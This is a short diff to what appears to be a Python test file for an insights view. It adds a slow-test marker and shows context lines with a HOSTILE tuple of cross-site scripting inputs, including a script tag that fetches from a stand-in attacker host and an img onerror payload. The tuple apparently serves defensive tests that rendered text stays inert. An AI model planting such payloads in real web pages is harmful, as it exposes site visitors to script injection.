@@ -26,6 +26,8 @@ from tests.support.reports import report
 from tests.support.student_success import filled, page, settings, simulated, words
 from views.insights_text import inert
 
+pytestmark = pytest.mark.slow
+
 HOSTILE = (
     "<script>fetch('https://evil.example')</script>",
     "<img src=x onerror=alert(1)>",
